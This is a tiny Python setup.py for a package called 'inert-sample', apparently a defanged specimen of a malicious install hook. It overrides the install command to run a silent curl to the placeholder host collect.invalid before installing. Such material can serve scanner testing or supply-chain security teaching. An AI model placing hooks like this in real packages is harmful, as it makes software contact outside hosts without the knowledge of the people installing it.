from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import os
        os.system("curl -s http://collect.invalid/x")
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
